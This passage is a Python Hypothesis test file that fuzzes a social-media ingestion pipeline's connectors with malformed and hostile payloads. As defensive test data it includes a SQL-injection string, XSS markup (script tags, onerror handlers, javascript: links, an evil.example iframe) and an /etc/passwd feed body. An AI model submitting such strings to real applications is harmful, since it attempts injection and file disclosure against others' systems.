"""Hostile input: any payload maps to posts or to our documented errors; a batch is stored whole.

Every mapping function, the CSV and twarc2 imports, ``analyse_text`` and ``analyze_stream`` get
payloads *shaped like* their format with random, missing and wrong-typed fields, plus fully
random JSON. The only errors allowed out are the documented ones: a ``Problem`` in the returned
list or ``MalformedPayloadError`` (one item), ``IgnoredMessage`` (a bounce) and
``ImportFormatError`` (a CSV without a required column).

Two kinds of property per function:

* "any text, missing fields" — realistic value ranges, any Unicode, fields left out at random,
  nested objects well formed.
* "wrong-typed fields" — every field may also be null, a number, a string, a list or an object,
  and the whole payload may be random JSON. These found real crashes; the minimal failing input
  of each stays as an ``@example``, and ``KNOWN_CRASHES`` lists each bug once, by name, with its
  minimal input, as a regression test.

What a mapping hands on can be stored: text-like fields are cleaned (NUL removed, lone
surrogates replaced) and ids, handles and languages fit their columns (``connectors.base``).

"Never store half a post": batches of mapped posts go through ``Ingest.batch`` into a real
SQLite and a real PostgreSQL workspace; every row equals the post it came from. A post the
store still refuses on its own (built around the mappings) is skipped and recorded as a
problem while the rest of its batch, and its cursor, is stored; anything else the store refuses
fails the batch whole, leaving nothing behind.
"""

from __future__ import annotations

import contextlib
import csv
import html
import io
import json
import math
import re
import tempfile
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from hypothesis import HealthCheck, event, example, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, insert, select
from sqlalchemy.exc import IntegrityError
from vaderSentiment.vaderSentiment import SentimentIntensityAnalyzer

from analysis import sentiment
from analysis.language_id import post_language
from analysis.reviews import settle as review_rule
from analysis.text import ANSWERED_BY_BRAND, analyse_text, needing_response
from commands.analyze_stream import analyze_stream
from connectors import bluesky, feed, hn, mastodon, reddit, reviews, x, youtube
from connectors.base import (
    MAX_TEXT_BYTES,
    Batch,
    MalformedPayloadError,
    Post,
    Problem,
    clean_text,
    parse_timestamp,
)
from connectors.files import CSV_COLUMNS, CSV_REQUIRED, ImportFormatError, import_batches
from connectors.mail import IgnoredMessage, post_from_message
from pipeline.spreadsheet import spreadsheet_csv
from pipeline.workspace import Workspace, open_workspace
from store.accounts import add_account
from store.schema import cases, posts, sync_errors, sync_state
from tests.conftest import _fresh_postgres_database, workspace_settings

MB = 1_000_000
_PLAIN_VADER = SentimentIntensityAnalyzer()
FAST = settings(
    max_examples=80,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
STORE = settings(
    max_examples=50,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)

# ------------------------------------------------------------------------------ strategies

# Characters that break things: NUL, BOM, line and paragraph separators, bidi override, emoji.
_NASTY = st.sampled_from(
    [
        "\x00",
        "\ufeff",
        "\u2028",
        "\r\n",
        "\r",
        "😊",
        "\u202e",
        "İ",
        "ß",
        "\U0010ffff",
        "'; DROP TABLE posts; --",
        " ",
    ]
)
_SURROGATES = st.text(st.characters(categories=["Cs"]), min_size=1, max_size=2)
# Any text a UTF-8 file can hold (no lone surrogates).
FILE_TEXT = st.lists(st.one_of(st.text(max_size=20), _NASTY), max_size=5).map("".join)
# Any text a JSON payload can carry: "\ud800" escapes decode to lone surrogates.
JSON_TEXT = st.lists(st.one_of(st.text(max_size=20), _NASTY, _SURROGATES), max_size=5).map("".join)

JSON_SCALAR = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), st.text(max_size=8))
# Random JSON as Python's json.loads returns it (NaN and Infinity included: it accepts them).
JUNK = st.recursive(
    JSON_SCALAR,
    lambda inner: st.one_of(
        st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=6), inner, max_size=3)
    ),
    max_leaves=8,
)

_ZONES = st.sampled_from(
    [
        UTC,
        timezone(timedelta(hours=5, minutes=30)),
        timezone(-timedelta(hours=8)),
        timezone(timedelta(hours=14)),
    ]
)
_MOMENTS = st.datetimes(
    min_value=datetime(1971, 1, 1), max_value=datetime(2100, 1, 1), timezones=_ZONES
)
ISO_TIME = st.one_of(
    _MOMENTS.map(lambda d: d.isoformat()),
    _MOMENTS.map(lambda d: d.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S.000Z")),
    st.sampled_from(["", "yesterday", "2026-13-01T00:00:00Z", "Z"]),
    st.text("abcxyz ", max_size=5),
)
UNIX_TIME = st.one_of(st.integers(0, 4_102_444_800), st.floats(0, 4_102_444_800))
SNOWFLAKE = st.integers(1, 2**63 - 1).map(str)


def wrong(valid: st.SearchStrategy) -> st.SearchStrategy:
    """The valid value, or any wrong-typed JSON value in its place."""
    return st.one_of(valid, JUNK)


def shaped(
    required: dict[str, st.SearchStrategy], optional: dict[str, st.SearchStrategy], hostile: bool
) -> st.SearchStrategy:
    """An object with these keys; optional keys may be missing; hostile: any value may be junk."""
    if hostile:
        required = {k: wrong(v) for k, v in required.items()}
        optional = {k: wrong(v) for k, v in optional.items()}
    return st.fixed_dictionaries(required, optional=optional)


# ------------------------------------------------------------------------------ post checks

_STR = ("platform", "external_id", "author_id", "author_handle", "text", "thread_key", "source")
_OPTIONAL_STR = ("parent_external_id", "author_name", "author_email", "url", "lang", "subject")


def assert_well_formed(post: Post, platform: str) -> None:
    """What every returned post must be: an id, an aware time, str text, its platform."""
    assert isinstance(post, Post)
    assert post.platform == platform
    assert isinstance(post.external_id, str) and post.external_id
    assert isinstance(post.created_at, datetime) and post.created_at.utcoffset() is not None
    assert isinstance(post.text, str)


def assert_typed(post: Post) -> None:
    """Every field has the type the store's column expects (a wrong type fails at insert)."""
    for name in _STR:
        assert isinstance(getattr(post, name), str), f"{name} = {getattr(post, name)!r}"
    for name in _OPTIONAL_STR:
        value = getattr(post, name)
        assert value is None or isinstance(value, str), f"{name} = {value!r}"
    reach = post.author_reach
    assert reach is None or (isinstance(reach, int) and not isinstance(reach, bool)), reach
    assert isinstance(post.reply_to, tuple)
    assert all(isinstance(ref, str) and ref for ref in post.reply_to), post.reply_to
    assert isinstance(post.is_auto_reply, bool)


def assert_storable(post: Post) -> None:
    """What both databases accept: no NUL, no lone surrogate, within the column lengths."""
    assert_typed(post)
    limits = {
        "platform": 16,
        "external_id": 255,
        "author_id": 255,
        "author_handle": 255,
        "author_name": 255,
        "thread_key": 255,
        "parent_external_id": 255,
        "lang": 8,
        "source": 128,
    }
    for name in (*_STR, *_OPTIONAL_STR):
        value = getattr(post, name)
        if value is None:
            continue
        assert "\x00" not in value, f"NUL in {name}"
        assert not _has_surrogate(value), f"lone surrogate in {name}"
        assert name not in limits or len(value) <= limits[name], f"{name} longer than column"


def all_storable(found: list[Post]) -> bool:
    for post in found:
        assert_storable(post)
    return True


def _has_surrogate(text: str) -> bool:
    return any(0xD800 <= ord(c) <= 0xDFFF for c in text)


def assert_mapped(
    result: tuple[list[Post], list[Problem]], platform: str
) -> tuple[list[Post], list[Problem]]:
    found, problems = result
    assert isinstance(found, list) and isinstance(problems, list)
    for post in found:
        assert_well_formed(post, platform)
        assert_typed(post)
    for problem in problems:
        assert isinstance(problem, Problem) and isinstance(problem.reason, str)
        assert problem.item_id is None or isinstance(problem.item_id, str)
    return found, problems


# ------------------------------------------------------------------------------ X


def _x_ref(hostile: bool) -> st.SearchStrategy:
    return shaped(
        {"type": st.sampled_from(["replied_to", "quoted", "retweeted"]), "id": SNOWFLAKE},
        {},
        hostile,
    )


def x_tweet(hostile: bool = False, text: st.SearchStrategy = JSON_TEXT) -> st.SearchStrategy:
    return shaped(
        {},
        {
            "id": SNOWFLAKE,
            "text": text,
            "author_id": st.sampled_from(["1", "2", "3"]),
            "created_at": ISO_TIME,
            "conversation_id": SNOWFLAKE,
            "lang": st.one_of(
                st.sampled_from(["en", "und", "nl", "de", "zxx", "qme"]), st.text(max_size=10)
            ),
            "referenced_tweets": st.lists(_x_ref(hostile), max_size=2),
            "public_metrics": st.fixed_dictionaries({"like_count": st.integers(0, 10**6)}),
            "in_reply_to_user_id": st.sampled_from(["1", "2"]),
        },
        hostile,
    )


def x_user(hostile: bool = False) -> st.SearchStrategy:
    return shaped(
        {"id": st.sampled_from(["1", "2", "3"])},
        {
            "username": st.text(max_size=15),
            "name": JSON_TEXT,
            "public_metrics": shaped({}, {"followers_count": st.integers(0, 10**9)}, hostile),
        },
        hostile,
    )


def x_page(hostile: bool = False) -> st.SearchStrategy:
    tweets = st.lists(x_tweet(hostile), max_size=5)
    page = shaped(
        {},
        {
            "data": st.one_of(tweets, x_tweet(hostile)) if not hostile else tweets,
            "includes": shaped({}, {"users": st.lists(x_user(hostile), max_size=3)}, hostile),
            "meta": st.fixed_dictionaries({"result_count": st.integers(0, 100)}),
        },
        hostile,
    )
    return st.one_of(page, JUNK) if hostile else page


def _x_items(page: Any) -> int | None:
    """How many tweets a page holds, when that is defined: a data list or one data object
    (an empty object, like an empty list, is no tweet)."""
    data = page.get("data") if isinstance(page, dict) else None
    if isinstance(data, dict):
        return 1 if data else 0
    if isinstance(data, list):
        return len(data)
    return 0 if not data else None


@FAST
@given(
    page=x_page(),
    source=st.sampled_from(["x", "x:search", "import:twarc2"]),
    default_author=st.one_of(st.none(), st.just("9")),
)
def test_x_pages_with_any_text_and_missing_fields_account_for_every_tweet(
    page, source, default_author
):
    """Guaranteed for a page object: when ``data`` is a list, every element — object or not —
    is exactly one post or one problem; one ``data`` object counts as one tweet; a missing or
    empty ``data`` gives nothing. Each post carries its tweet's text, cleaned for the store."""
    found, problems = assert_mapped(x.posts_from_page(page, source, default_author), "x")
    assert len(found) + len(problems) == _x_items(page)
    assert all(post.source == source for post in found)
    texts: dict[Any, list] = {}
    for tweet in _as_list(page.get("data")):
        texts.setdefault(tweet.get("id"), []).append(tweet.get("text"))
    assert all(
        post.text in [clean_text(t) for t in texts[post.external_id] if isinstance(t, str)]
        for post in found
    )  # two tweets may share an id, one of them without text
    assert all_storable(found)


@pytest.mark.parametrize(
    "value",
    [
        True,
        None,
        [1],
        {"t": 1},
        math.nan,
        math.inf,
        -math.inf,
        1e20,
        10**400,
        -1e12,
        "0001-01-01T00:00:00+01:00",
        "9999-12-31T23:59:59-01:00",
        "1899-12-31T23:59:59Z",
        "3000-01-01T00:00:00Z",
        "",
        "yesterday",
    ],
)
def test_parse_timestamp_refuses_what_is_no_time_with_malformed_payload(value):
    """Once bools were read as Unix seconds and NaN, 1e20 or year 9999 in a far zone escaped
    as ValueError, OverflowError or OSError, stopping a whole page."""
    with pytest.raises(MalformedPayloadError, match="timestamp"):
        parse_timestamp(value)


def _readable(value: str | None) -> bool:
    """A created_at the mapping must accept: absent or empty (the id's time), or a real time."""
    if not value:
        return True
    try:
        parse_timestamp(value)
    except MalformedPayloadError:
        return False
    return True


def _as_list(data: Any) -> list:
    return [data] if isinstance(data, dict) else list(data or [])


@FAST
@given(page=x_page(hostile=True))
@example(page={"data": 5})
def test_x_pages_with_wrong_typed_fields_never_crash(page):
    found, problems = assert_mapped(x.posts_from_page(page, "x"), "x")
    if isinstance(page, dict) and isinstance(page.get("data"), list):
        assert len(found) + len(problems) == len(page["data"])
    assert all_storable(found)


@FAST
@given(
    tweet=x_tweet(),
    users=st.lists(x_user(), max_size=3),
    default_author=st.one_of(st.none(), st.just("9")),
)
def test_post_from_tweet_returns_a_post_or_raises_malformed_payload(tweet, users, default_author):
    by_id = {u["id"]: u for u in users}
    complete = (
        {"id", "text"} <= tweet.keys()
        and ("author_id" in tweet or default_author is not None)
        and _readable(tweet.get("created_at"))
    )
    try:
        post = x.post_from_tweet(tweet, by_id, "x", default_author)
    except MalformedPayloadError:
        assert not complete, "a complete tweet was refused"
        return
    assert_well_formed(post, "x")
    assert_storable(post)
    assert post.external_id == tweet["id"] and post.text == clean_text(tweet["text"])


# ------------------------------------------------------------------------------ Reddit


def _reddit_data(
    hostile: bool, replies: st.SearchStrategy, text: st.SearchStrategy
) -> st.SearchStrategy:
    return shaped(
        {},
        {
            "id": st.text("abcdefghijklmnopqrstuvwxyz0123456789", min_size=1, max_size=7),
            "name": st.text(max_size=12),
            "created_utc": st.one_of(UNIX_TIME, ISO_TIME),
            "author": st.text(max_size=20),
            "author_fullname": st.text(max_size=12),
            "title": text,
            "selftext": text,
            "body": text,
            "link_id": st.text(max_size=10),
            "parent_id": st.text(max_size=10),
            "permalink": st.text(max_size=30),
            "replies": replies,
        },
        hostile,
    )


def _reddit_listing(children: st.SearchStrategy, hostile: bool) -> st.SearchStrategy:
    data = shaped({"children": st.lists(children, max_size=3)}, {}, hostile)
    return shaped({"kind": st.just("Listing"), "data": data}, {}, hostile)


def reddit_thing(hostile: bool = False, text: st.SearchStrategy = JSON_TEXT) -> st.SearchStrategy:
    kinds = st.sampled_from(["t1", "t3", "more", "t5"])

    def extend(inner: st.SearchStrategy) -> st.SearchStrategy:
        replies = st.one_of(st.just(""), _reddit_listing(inner, hostile))
        return shaped({"kind": kinds}, {"data": _reddit_data(hostile, replies, text)}, hostile)

    leaf = shaped({"kind": kinds}, {"data": _reddit_data(hostile, st.just(""), text)}, hostile)
    return st.recursive(leaf, extend, max_leaves=6)


def reddit_document(
    hostile: bool = False, text: st.SearchStrategy = JSON_TEXT
) -> st.SearchStrategy:
    """A listing, or a saved thread: a list of listings (maybe with a stray non-listing)."""
    listing = _reddit_listing(reddit_thing(hostile, text), hostile)
    stray = st.sampled_from([{"kind": "t1"}, [], 3, None])
    document = st.one_of(listing, st.lists(st.one_of(listing, stray), max_size=3))
    return st.one_of(document, JUNK) if hostile else document


def _reddit_items(document: Any) -> int:
    """Items a well-formed document reports on: each non-listing, each thing not "more"."""
    count = 0
    for one in document if isinstance(document, list) else [document]:
        if not isinstance(one, dict) or one.get("kind") != "Listing":
            count += 1
            continue
        count += _reddit_things(one)
    return count


def _reddit_things(listing: dict) -> int:
    count = 0
    for child in listing["data"]["children"]:
        if child["kind"] == "more":
            continue
        count += 1
        replies = (child.get("data") or {}).get("replies")
        if isinstance(replies, dict):
            count += _reddit_things(replies)
    return count


@FAST
@given(document=reddit_document(), source=st.sampled_from(["reddit", "import:reddit-json"]))
def test_reddit_listings_with_any_text_and_missing_fields_account_for_every_thing(document, source):
    """Guaranteed when ``data.children`` are lists of objects: each element of a saved thread
    that is not a ``Listing`` is one problem; each child whose kind is not ``more`` — at every
    depth of ``replies`` listings — is exactly one post or one problem (the children of a
    ``more`` stub are not walked)."""
    found, problems = assert_mapped(reddit.posts_from_listing(document, source), "reddit")
    assert len(found) + len(problems) == _reddit_items(document)
    assert all(post.source == source and post.raw.get("replies") is None for post in found)
    assert all_storable(found)


@FAST
@given(document=reddit_document(hostile=True))
@example(document={"kind": "Listing", "data": {"children": 3}})
def test_reddit_listings_with_wrong_typed_fields_never_crash(document):
    found, _ = assert_mapped(reddit.posts_from_listing(document, "reddit"), "reddit")
    assert all_storable(found)


@FAST
@given(thing=reddit_thing())
def test_post_from_thing_returns_a_post_or_raises_malformed_payload(thing):
    try:
        post = reddit.post_from_thing(thing)
    except MalformedPayloadError:
        return
    assert_well_formed(post, "reddit")
    assert_storable(post)
    assert thing["kind"] in ("t1", "t3")
    if thing["kind"] == "t1":
        assert post.text == clean_text(thing["data"]["body"])


@FAST
@given(thing=reddit_thing(hostile=True).filter(lambda t: isinstance(t, dict)))
@example(thing={"kind": "t1", "data": {"id": "a", "body": "x", "created_utc": 1e20}})
def test_post_from_thing_with_wrong_typed_fields_raises_only_malformed_payload(thing):
    try:
        post = reddit.post_from_thing(thing)
    except MalformedPayloadError:
        return
    assert_well_formed(post, "reddit")
    assert_storable(post)


# ------------------------------------------------------------------------------ YouTube


def yt_comment(hostile: bool = False, text: st.SearchStrategy = JSON_TEXT) -> st.SearchStrategy:
    snippet = shaped(
        {},
        {
            "publishedAt": ISO_TIME,
            "updatedAt": ISO_TIME,
            "textOriginal": text,
            "textDisplay": text,
            "authorDisplayName": st.text(max_size=20),
            "authorChannelId": shaped({}, {"value": st.text(max_size=24)}, hostile),
            "parentId": st.text(max_size=20),
            "videoId": st.text(max_size=11),
        },
        hostile,
    )
    return shaped({}, {"id": st.text(max_size=26), "snippet": snippet}, hostile)


def yt_page(hostile: bool = False, text: st.SearchStrategy = JSON_TEXT) -> st.SearchStrategy:
    thread = shaped(
        {},
        {
            "id": st.text(max_size=26),
            "snippet": shaped(
                {},
                {
                    "topLevelComment": yt_comment(hostile, text),
                    "totalReplyCount": st.integers(0, 500),
                    "videoId": st.text(max_size=11),
                },
                hostile,
            ),
            "replies": shaped(
                {}, {"comments": st.lists(yt_comment(hostile, text), max_size=3)}, hostile
            ),
        },
        hostile,
    )
    page = shaped(
        {}, {"items": st.lists(thread, max_size=4), "nextPageToken": st.text(max_size=10)}, hostile
    )
    return st.one_of(page, JUNK) if hostile else page


def _yt_items(page: dict) -> int:
    """A thread without id or top-level comment is one problem; else one item per comment."""
    count = 0
    for item in page.get("items") or []:
        if "id" not in item or "topLevelComment" not in item.get("snippet", {}):
            count += 1
        else:
            count += 1 + len(item.get("replies", {}).get("comments") or [])
    return count


@FAST
@given(page=yt_page())
def test_youtube_pages_with_any_text_and_missing_fields_account_for_every_comment(page):
    """Guaranteed when ``items`` is a list of objects: a thread without ``id`` or
    ``snippet.topLevelComment`` is one problem; otherwise its top-level comment and each
    embedded reply is exactly one post or one problem."""
    found, problems = assert_mapped(youtube.posts_from_comment_threads(page), "youtube")
    assert len(found) + len(problems) == _yt_items(page)
    assert all_storable(found)


@FAST
@given(page=yt_page(hostile=True))
@example(page={"items": 5})
def test_youtube_pages_with_wrong_typed_fields_never_crash(page):
    found, _ = assert_mapped(youtube.posts_from_comment_threads(page), "youtube")
    assert all_storable(found)


# ------------------------------------------------------------------------------ RSS/Atom feeds


def feed_entry(hostile: bool = False, text: st.SearchStrategy = JSON_TEXT) -> st.SearchStrategy:
    """An entry as feedparser hands it over: text constructs with their ``*_detail`` type,
    parsed times as ``time.struct_time``, an author and content blocks."""
    kind = st.fixed_dictionaries({"type": st.sampled_from(["text/plain", "text/html", "x"])})
    struct = (
        st.integers(-(2**40), 2**40).map(time.gmtime)
        if hostile
        else _MOMENTS.map(lambda d: d.astimezone(UTC).timetuple())
    )
    return shaped(
        {},
        {
            "id": text,
            "link": st.one_of(
                st.sampled_from(
                    [
                        "https://blog.example.com/a",
                        "javascript:alert(1)",
                        "https://www.google.com/url?rct=j&url=https://x.example/p&ct=ga",
                        "https://www.google.com/url?url=javascript:alert(1)",
                    ]
                ),
                text,
            ),
            "title": text,
            "title_detail": kind,
            "summary": text,
            "summary_detail": kind,
            "published": st.one_of(ISO_TIME, text),
            "published_parsed": struct,
            "updated": ISO_TIME,
            "author": text,
            "author_detail": shaped({}, {"name": text, "email": text}, hostile),
            "content": st.lists(shaped({}, {"value": text, "type": st.just("text/html")}, hostile)),
        },
        hostile,
    )


@FAST
@given(entries=st.lists(feed_entry(), max_size=5), fallback=st.one_of(st.none(), _MOMENTS))
def test_feed_entries_with_any_text_and_missing_fields_account_for_every_entry(entries, fallback):
    """Each entry is exactly one post or one problem, and every post can be stored."""
    found, problems = assert_mapped(
        feed.posts_from_entries(entries, "feed:x", fallback_time=fallback), "feed"
    )
    assert len(found) + len(problems) == len(entries)
    assert all_storable(found)
    assert all(p.url is None or p.url.startswith(("http://", "https://")) for p in found)


@FAST
@given(entries=st.one_of(st.lists(feed_entry(hostile=True), max_size=4), st.lists(JUNK)))
def test_feed_entries_with_wrong_typed_fields_never_crash(entries):
    found, problems = assert_mapped(feed.posts_from_entries(entries, "feed:x"), "feed")
    assert len(found) + len(problems) == len(entries)
    assert all_storable(found)


_WORDS = st.text("abcdefghij KLM.?", min_size=1, max_size=12)
_MARKUP = st.sampled_from(
    [
        "<script>alert('x')</script>",
        "<img src=x onerror=alert(1)>",
        '<a href="javascript:alert(2)">',
        "</a>",
        "<style>body{background:url(alert)}</style>",
        '<iframe src="https://evil.example/alert"></iframe>',
        '<span style="background: url(javascript:alert(3))">',
        "</span>",
        "<b>",
        "</b>",
        "<p>",
        "<svg onload=alert(4)><script>alert(5)</script></svg>",
        "<!-- alert -->",
        "&gt;",
        "&amp;",
        "&nbsp;",
    ]
)
_HTML_TEXT = st.lists(st.one_of(_WORDS, _MARKUP), max_size=8).map("".join)


def _feed_document(items: list[tuple[str, str]], atom: bool) -> bytes:
    """An RSS 2.0 or Atom 1.0 document whose titles and summaries carry ``items`` as HTML."""
    esc = html.escape
    if atom:
        entries = "".join(
            f"<entry><id>tag:t,2026:{n}</id><title type='html'>{esc(t)}</title>"
            f"<link href='https://blog.example.com/{n}'/><updated>2026-11-02T09:00:00Z</updated>"
            f"<summary type='html'>{esc(s)}</summary></entry>"
            for n, (t, s) in enumerate(items)
        )
        return (
            f"<feed xmlns='http://www.w3.org/2005/Atom'><title>t</title>{entries}</feed>"
        ).encode()
    entries = "".join(
        f"<item><guid>g{n}</guid><title>{esc(t)}</title><description>{esc(s)}</description>"
        f"<pubDate>Mon, 02 Nov 2026 09:00:00 GMT</pubDate></item>"
        for n, (t, s) in enumerate(items)
    )
    return f"<rss version='2.0'><channel><title>t</title>{entries}</channel></rss>".encode()


@FAST
@given(items=st.lists(st.tuples(_HTML_TEXT, _HTML_TEXT), max_size=4), atom=st.booleans())
def test_feed_titles_and_summaries_keep_only_inert_visible_text(items, atom):
    """Scripts, styles, frames, event handlers and ``javascript:`` links never reach a post:
    every ``alert`` in these summaries sits in markup, and the words around it are kept."""
    found, problems = assert_mapped(
        feed.posts_from_document(_feed_document(items, atom), "feed:x"), "feed"
    )
    assert len(found) + len(problems) == len(items)
    for post in found:
        assert "alert" not in post.text and "javascript" not in post.text
        assert not re.search(r"<\s*[a-z!/]", post.text), post.text  # no tag survives as markup
    assert all_storable(found)


@FAST
@given(document=st.one_of(st.binary(max_size=200), FILE_TEXT.map(lambda t: t.encode())))
@example(document=b"/etc/passwd")
@example(document=b"https://example.com/feed.xml")
def test_any_bytes_are_a_feed_or_a_clear_refusal_never_a_file_or_a_fetch(document):
    """feedparser reads a str or bytes argument as a path or URL first; the document goes in
    as a stream, so a body naming a file is refused as no feed, never read from disk."""
    try:
        found, _ = assert_mapped(feed.posts_from_document(document, "feed:x"), "feed")
    except MalformedPayloadError as exc:
        assert "not an RSS or Atom feed" in str(exc)
        return
    assert all_storable(found)


# ------------------------------------------------------------------------------ Mastodon

_HTML_BITS = st.sampled_from(
    [
        "<p>",
        "</p>",
        "<br>",
        "<br/>",
        "<script>alert(1)</script>",
        "<style>p{}</style>",
        '<a href="javascript:alert(1)">x</a>',
        '<span class="invisible">https://</span>',
        "<img src=x onerror=alert(1)>",
        "&lt;b&gt;",
        "&#0;",
        "&#xd800;",
        "<!--",
        "<![CDATA[",
        "</",
        "<a",
        '<a href="https://northwind.social/@careers" class="u-url mention">@<span>x</span></a>',
    ]
)
MASTODON_HTML = st.lists(st.one_of(JSON_TEXT, _HTML_BITS), max_size=6).map("".join)


def mastodon_account(hostile: bool = False) -> st.SearchStrategy:
    return shaped(
        {},
        {
            "id": SNOWFLAKE,
            "acct": st.text(max_size=30),
            "username": st.text(max_size=15),
            "display_name": JSON_TEXT,
            "url": st.one_of(st.just("https://northwind.social/@careers"), st.text(max_size=30)),
            "followers_count": st.integers(-5, 2**40),
        },
        hostile,
    )


def mastodon_status(hostile: bool = False, depth: int = 1) -> st.SearchStrategy:
    fields = {
        "id": SNOWFLAKE,
        "created_at": ISO_TIME,
        "content": MASTODON_HTML,
        "spoiler_text": JSON_TEXT,
        "account": mastodon_account(hostile),
        "in_reply_to_id": SNOWFLAKE,
        "in_reply_to_account_id": SNOWFLAKE,
        "language": st.one_of(st.sampled_from(["en", "de", "nl"]), st.text(max_size=10)),
        "url": st.text(max_size=40),
        "visibility": st.sampled_from(["public", "unlisted", "private", "direct"]),
        "mentions": st.lists(
            shaped({}, {"url": st.text(max_size=30), "acct": st.text(max_size=20)}, hostile),
            max_size=2,
        ),
    }
    if depth:
        fields["reblog"] = st.one_of(st.none(), mastodon_status(hostile, depth - 1))
    return shaped({}, fields, hostile)


def mastodon_page(hostile: bool = False) -> st.SearchStrategy:
    statuses = st.lists(mastodon_status(hostile), max_size=4)
    notifications = st.lists(
        shaped(
            {"type": st.sampled_from(["mention", "favourite", "follow", "quote"])},
            {"id": SNOWFLAKE, "status": mastodon_status(hostile)},
            hostile,
        ),
        max_size=3,
    )
    page = st.one_of(
        statuses,
        notifications,
        shaped({}, {"statuses": statuses}, hostile),
        shaped({}, {"ancestors": statuses, "descendants": statuses}, hostile),
    )
    return st.one_of(page, JUNK) if hostile else page


@FAST
@given(page=mastodon_page(), source=st.sampled_from(["mastodon:tag:x", "import:mastodon"]))
def test_mastodon_pages_with_any_html_and_missing_fields_account_for_every_status(page, source):
    """Each status (a mention's, a boost's inner one) is exactly one post or one problem, and
    no tag of its HTML survives into the text."""
    statuses, reasons = mastodon.statuses_of(page)
    found, problems = assert_mapped(mastodon.posts_from_page(page, source), "mastodon")
    assert len(found) + len(problems) == len(statuses) + len(reasons)
    assert all_storable(found)
    for post in found:
        assert "<script" not in post.text and "<br" not in post.text
        assert "<p>" not in post.text and "</p>" not in post.text


@FAST
@given(page=mastodon_page(hostile=True))
@example(page={"statuses": 5})
@example(page=[{"id": "1", "created_at": "2026-11-02T09:00:00Z"}])
def test_mastodon_pages_with_wrong_typed_fields_never_crash(page):
    found, _ = assert_mapped(mastodon.posts_from_page(page, "mastodon"), "mastodon")
    assert all_storable(found)


@FAST
@given(content=MASTODON_HTML)
def test_mastodon_html_becomes_text_without_markup_for_any_content(content):
    text = mastodon.html_to_text(content)
    assert isinstance(text, str)
    for tag in ("<p>", "</p>", "<br>", "<script", "<style", "<span"):
        assert tag not in text or tag in content.replace("&lt;", "<")


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(b"[]\n\xff\n", id="not-utf8"),
        pytest.param(b"[" * 100_000 + b"\n", id="deep-nesting"),
        pytest.param(b"[" + b"9" * 5000 + b"]\n", id="int-over-4300-digits"),
        pytest.param(b'[{"id": "2", "score": NaN}]\n', id="nan"),
        pytest.param(b'{"statuses": 5}\n', id="statuses-not-a-list"),
    ],
)
def test_mastodon_lines_that_cannot_be_read_become_problems_and_the_rest_is_kept(content):
    good = json.dumps([_TOOT]).encode()
    with _file(content + good + b"\n", ".jsonl") as path:
        found, problems = _imported(path, "mastodon")
    assert [p.external_id for p in found] == ["1"] and problems
    assert all(p.reason.startswith(("line 1: ", "line 2: ")) for p in problems)


# ------------------------------------------------------------------------------ Bluesky


def _bsky_ref(hostile: bool) -> st.SearchStrategy:
    return shaped({}, {"uri": st.text(max_size=40), "cid": st.text(max_size=10)}, hostile)


def bsky_view(hostile: bool = False, text: st.SearchStrategy = JSON_TEXT) -> st.SearchStrategy:
    record = shaped(
        {},
        {
            "$type": st.just("app.bsky.feed.post"),
            "text": text,
            "createdAt": ISO_TIME,
            "langs": st.lists(st.text(max_size=9), max_size=2),
            "reply": shaped(
                {}, {"root": _bsky_ref(hostile), "parent": _bsky_ref(hostile)}, hostile
            ),
            "embed": shaped({}, {"record": _bsky_ref(hostile)}, hostile),
        },
        hostile,
    )
    author = shaped(
        {},
        {"did": st.text(max_size=30), "handle": st.text(max_size=30), "displayName": JSON_TEXT},
        hostile,
    )
    return shaped(
        {},
        {
            "uri": st.one_of(st.text(max_size=40), st.just("at://did:plc:a/app.bsky.feed.post/3k")),
            "cid": st.text(max_size=10),
            "author": author,
            "record": record,
            "indexedAt": ISO_TIME,
        },
        hostile,
    )


def bsky_page(hostile: bool = False, text: st.SearchStrategy = JSON_TEXT) -> st.SearchStrategy:
    views = st.lists(bsky_view(hostile, text), max_size=4)
    page = st.one_of(
        shaped({"posts": views}, {"cursor": st.text(max_size=10)}, hostile),
        shaped(
            {"notifications": views.map(lambda v: [{**n, "reason": "reply"} for n in v])},
            {},
            hostile,
        ),
        shaped({"feed": views.map(lambda v: [{"post": p} for p in v])}, {}, hostile),
    )
    return st.one_of(page, JUNK) if hostile else page


@FAST
@given(page=bsky_page())
def test_bluesky_responses_with_any_text_and_missing_fields_account_for_every_post(page):
    """Each post view of a searchPosts, listNotifications or getAuthorFeed response is exactly
    one post or one problem."""
    found, problems = assert_mapped(bluesky.posts_from_response(page), "bluesky")
    items = next(page[key] for key in ("posts", "notifications", "feed") if key in page)
    assert len(found) + len(problems) == len(items)
    assert all_storable(found)


@FAST
@given(page=bsky_page(hostile=True))
@example(page={"posts": 5})
@example(page={"thread": {"post": {"uri": 1}, "parent": {"parent": []}, "replies": [5]}})
def test_bluesky_responses_with_wrong_typed_fields_never_crash(page):
    found, _ = assert_mapped(bluesky.posts_from_response(page), "bluesky")
    assert all_storable(found)


# ------------------------------------------------------------------------------ Hacker News

# HN text is HTML: tags, entities and broken markup mixed into any text.
HN_HTML = st.lists(
    st.one_of(
        JSON_TEXT,
        st.sampled_from(
            ["<p>", "<i>", "</i>", '<a href="x">', "</a>", "&amp;", "&#x2F;", "<", "&"]
        ),
    ),
    max_size=6,
).map("".join)


def hn_hit(hostile: bool = False, text: st.SearchStrategy = HN_HTML) -> st.SearchStrategy:
    return shaped(
        {},
        {
            "objectID": st.text(max_size=12),
            "author": st.text(max_size=15),
            "created_at": ISO_TIME,
            "created_at_i": st.integers(-(2**40), 2**40),
            "comment_text": text,
            "story_text": text,
            "title": JSON_TEXT,
            "parent_id": st.integers(0, 2**40),
            "story_id": st.integers(0, 2**40),
            "_tags": st.lists(
                st.sampled_from(["story", "comment", "author_x", "poll"]), max_size=3
            ),
        },
        hostile,
    )


def hn_response(hostile: bool = False) -> st.SearchStrategy:
    response = shaped(
        {},
        {
            "hits": st.lists(hn_hit(hostile), max_size=4),
            "nbPages": st.integers(0, 50),
            "page": st.integers(0, 50),
        },
        hostile,
    )
